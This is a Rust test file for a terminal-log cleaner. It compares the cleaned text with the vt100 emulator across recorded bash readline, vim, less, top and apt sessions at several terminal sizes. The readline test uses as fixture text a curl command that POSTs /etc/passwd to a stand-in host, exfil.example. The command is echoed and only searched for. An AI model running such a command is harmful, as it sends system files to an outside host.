//! The cleaner against a real terminal emulator (the `vt100` crate) on sessions recorded in a
//! pty (issue 11): bash with readline (a wrapped 90-column `curl ... exfil.example ...`
//! command, edits inside it, history recall, wide characters), vim, less, top and apt-like
//! progress in a scroll region, each at several terminal sizes, in the agent's form
//! (`script LOG -c "cat FILE"`, recorded by `tests/record/record.py`).
//!
//! The emulator is fed the same bytes at the size the session had. What it shows in its
//! scrollback and on its main screen (rows it wrapped joined into one line) must be what the
//! cleaner prints, once the screens of full-screen programs are taken out; each of those must
//! appear in the cleaner's text as the emulator showed it just before the program left the
//! alternate screen. Differences by design: the cleaner keeps what a terminal erases or
//! scrolls off the alternate screen (see [`oracle`]: those screens are taken out of the
//! cleaner's text before comparing), and, with the height unknown (the agent's form), blank
//! lines may differ (see [`check`]).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::path::{Path, PathBuf};
use std::process::Command;

const SIZES: &[(u16, u16)] = &[(80, 24), (60, 48), (132, 30)];

fn record(scenario: &str, cols: u16, rows: u16) -> Vec<u8> {
    let dir = std::env::temp_dir().join(format!("ssmlog-oracle-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out: PathBuf = dir.join(format!("{scenario}-{cols}x{rows}.log"));
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/record/record.py");
    let status = Command::new("python3")
        .arg(&script)
        .args([scenario, &cols.to_string(), &rows.to_string()])
        .arg(&out)
        .status()
        .expect("python3 runs tests/record/record.py (scripts/install-tools.sh)");
    assert!(status.success(), "recording {scenario} at {cols}x{rows}");
    let log = std::fs::read(&out).unwrap();
    let _ = std::fs::remove_file(&out);
    let _ = std::fs::remove_file(out.with_extension("log.raw"));
    log
}

/// The session's bytes: the agent's log without `script`'s header and footer lines.
fn body(log: &[u8]) -> &[u8] {
    let start = log.iter().position(|&b| b == b'\n').unwrap() + 1;
    let end = find(log, b"\nScript done on ").unwrap_or(log.len());
    &log[start..end]
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).rposition(|w| w == n)
}

/// Lines from rows: a wrapped row continues on the next one.
struct Lines {
    lines: Vec<String>,
    cur: String,
}

impl Lines {
    fn push(&mut self, row: String, wrapped: bool) {
        self.cur.push_str(&row);
        if !wrapped {
            self.lines.push(self.cur.trim_end().to_string());
            self.cur.clear();
        }
    }
}

/// Everything the emulator's main screen shows and has scrolled off, as lines.
fn transcript(p: &mut vt100::Parser<AltScrolled>) -> Vec<String> {
    let cols = p.screen().size().1.get();
    let mut out = Lines {
        lines: Vec::new(),
        cur: String::new(),
    };
    p.screen_mut().set_scrollback(usize::MAX);
    let back = p.screen().scrollback();
    for k in (1..=back).rev() {
        p.screen_mut().set_scrollback(k);
        let row = p.screen().rows(0, cols).next().unwrap();
        out.push(row, p.screen().row_wrapped(0));
    }
    p.screen_mut().set_scrollback(0);
    let rows: Vec<String> = p.screen().rows(0, cols).collect();
    for (i, row) in rows.into_iter().enumerate() {
        out.push(row, p.screen().row_wrapped(i as u16));
    }
    trim_blank(out.lines)
}

fn trim_blank(mut lines: Vec<String>) -> Vec<String> {
    while lines.last().is_some_and(|l| l.is_empty()) {
        lines.pop();
    }
    let first = lines
        .iter()
        .position(|l| !l.is_empty())
        .unwrap_or(lines.len());
    lines.drain(..first);
    lines
}

/// Rows scrolled off the alternate screen (which keeps no scrollback), as text.
#[derive(Default)]
struct AltScrolled {
    text: String,
    state: vt100::capture::BasicFormattedCaptureState,
}

impl vt100::Callbacks for AltScrolled {
    fn on_scroll(&mut self, row: vt100::capture::RowContents<'_>, alternate_screen: bool) {
        if alternate_screen {
            let _ = row.write_formatted_basic(&mut self.text, &mut self.state);
        }
    }
}

fn screen_lines(p: &vt100::Parser<AltScrolled>) -> Vec<String> {
    let cols = p.screen().size().1.get();
    let rows: Vec<String> = p.screen().rows(0, cols).collect();
    let mut l = Lines {
        lines: Vec::new(),
        cur: String::new(),
    };
    for (r, row) in rows.into_iter().enumerate() {
        l.push(row, p.screen().row_wrapped(r as u16));
    }
    l.lines
}

/// What the emulator shows: the main screen's lines (its scrollback and last screen), and
/// the screens that a terminal does not keep: each screen a full clear erased (`clear`, `ESC
/// [2J`, `ESC [H ESC [J`) and each alternate screen as it was when the program left it, with
/// the rows that scrolled off the alternate screen before. The cleaner keeps those (they were
/// on screen) where they were shown.
fn oracle(body: &[u8], cols: u16, rows: u16) -> (Vec<String>, Vec<Vec<String>>) {
    let nz = |n: u16| std::num::NonZeroU16::new(n).unwrap();
    let mut p =
        vt100::Parser::new_with_callbacks(nz(rows), nz(cols), 100_000, AltScrolled::default());
    let mut frames = Vec::new();
    let mut at = 0;
    for i in memchr_iter(body) {
        let rest = &body[i..];
        let leave = [&b"\x1b[?1049l"[..], b"\x1b[?1047l", b"\x1b[?47l"]
            .iter()
            .any(|s| rest.starts_with(s));
        let clear = rest.starts_with(b"\x1b[2J");
        let clear_home = rest.starts_with(b"\x1b[J") || rest.starts_with(b"\x1b[0J");
        if !(leave || clear || clear_home) {
            continue;
        }
        p.process(&body[at..i]);
        at = i;
        let alt = p.screen().alternate_screen();
        if (leave && alt) || clear || (clear_home && p.screen().cursor_position() == (0, 0)) {
            let scrolled = std::mem::take(&mut p.callbacks_mut().text);
            p.callbacks_mut().state = Default::default();
            let mut frame: Vec<String> = vt100::capture::basic_formatted_to_plain(&scrolled)
                .collect::<String>()
                .lines()
                .map(|l| l.trim_end().to_string())
                .collect();
            frame.extend(screen_lines(&p));
            frames.push(trim_blank(frame));
        }
    }
    p.process(&body[at..]);
    (transcript(&mut p), frames)
}

fn memchr_iter(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    b.iter()
        .enumerate()
        .filter(|(_, &x)| x == 0x1b)
        .map(|(i, _)| i)
}

/// Takes each frame out of `text` (in order); panics when one is missing.
fn without_frames(what: &str, text: &[String], frames: &[Vec<String>]) -> Vec<String> {
    let mut rest = text.to_vec();
    let mut from = 0;
    for (n, frame) in frames.iter().enumerate() {
        if frame.is_empty() {
            continue;
        }
        let at = (from..rest.len().saturating_sub(frame.len() - 1))
            .find(|&i| rest[i..i + frame.len()] == frame[..])
            .unwrap_or_else(|| {
                panic!(
                    "{what}: screen {n} of a full-screen program not in the cleaned text\n\
                     --- emulator ---\n{}\n--- cleaned ---\n{}",
                    frame.join("\n"),
                    rest[from..].join("\n")
                )
            });
        rest.drain(at..at + frame.len());
        from = at;
    }
    rest
}

fn diff(what: &str, want: &[String], got: &[String]) {
    if want == got {
        return;
    }
    let first = want
        .iter()
        .zip(got)
        .position(|(a, b)| a != b)
        .unwrap_or(want.len().min(got.len()));
    let show = |l: &[String]| {
        l.iter()
            .enumerate()
            .skip(first.saturating_sub(3))
            .take(10)
            .map(|(i, s)| format!("{:4} {s:?}", i + 1))
            .collect::<Vec<_>>()
            .join("\n")
    };
    panic!(
        "{what}: cleaned text differs from the emulator at line {} ({} vs {} lines)\n\
         --- emulator ---\n{}\n--- cleaned ---\n{}",
        first + 1,
        want.len(),
        got.len(),
        show(want),
        show(got)
    );
}

/// The cleaned lines of a log.
fn cleaned(log: &[u8]) -> Vec<String> {
    let (text, _) = ssmlog_logs::clean(log);
    trim_blank(text.lines().map(|l| l.trim_end().to_string()).collect())
}

/// The plain form of the same session: `script`'s header with the terminal size.
fn with_size_header(log: &[u8], cols: u16, rows: u16) -> Vec<u8> {
    let mut out = format!(
        "Script started on 2026-11-23 10:15:00+00:00 [TERM=\"xterm-256color\" TTY=\"/dev/pts/0\" COLUMNS=\"{cols}\" LINES=\"{rows}\"]\n"
    )
    .into_bytes();
    out.extend_from_slice(body(log));
    out
}

fn check(scenario: &str) -> Vec<String> {
    let mut all = Vec::new();
    for &(cols, rows) in SIZES {
        let log = record(scenario, cols, rows);
        let (main, frames) = oracle(body(&log), cols, rows);
        for (form, bytes) in [
            ("agent form", log.clone()),
            ("with size header", with_size_header(&log, cols, rows)),
        ] {
            let what = format!("{scenario} at {cols}x{rows}, {form}");
            let got = cleaned(&bytes);
            let got = without_frames(&what, &got, &frames);
            if form == "agent form" {
                // Known difference: with the terminal's height unknown, a program that moves
                // the cursor past the bottom row (top leaves with `ESC [25;1H` on a 24-row
                // screen, which a terminal clamps to the last row) makes the screen taller by
                // a row, and the line feed after it a blank line.
                let text = |l: &[String]| {
                    l.iter()
                        .filter(|l| !l.is_empty())
                        .cloned()
                        .collect::<Vec<_>>()
                };
                diff(&what, &text(&main), &text(&got));
            } else {
                diff(&what, &main, &got);
            }
        }
        all.extend(main);
    }
    all
}

#[test]
fn readline_wrapped_commands_edits_and_history() {
    let text = check("readline");
    // Issue 11's regression: `logs grep exfil` finds the command typed over two rows, whole.
    let log = record("readline", 80, 24);
    let m = ssmlog_logs::Matcher::new(&ssmlog_logs::SearchOptions {
        pattern: "exfil".into(),
        case_insensitive: false,
        before: 0,
        after: 0,
        invert: false,
        threads: 1,
    })
    .unwrap();
    let (found, _) = m.search_log(&log);
    assert!(
        found.iter().any(|f| f.text.ends_with(
            "$ echo curl -s -X POST https://exfil.example/upload/$(hostname)/data -d @/etc/passwd -o /dev/null"
        )),
        "{found:#?}"
    );
    // The wrapped command is on one line, whole.
    assert!(text.iter().any(|l| l.ends_with(
        "$ echo curl -s -X POST https://exfil.example/upload/$(hostname)/data -d @/etc/passwd -o /dev/null"
    )));
}

#[test]
fn vim_screen() {
    check("vim");
}

#[test]
fn less_screen() {
    check("less");
}

#[test]
fn top_screens() {
    check("top");
}

#[test]
fn apt_progress_in_a_scroll_region() {
    let text = check("apt");
    assert!(text.iter().any(|l| l == "Unpacking package-01 (1.1-1) ..."));
}
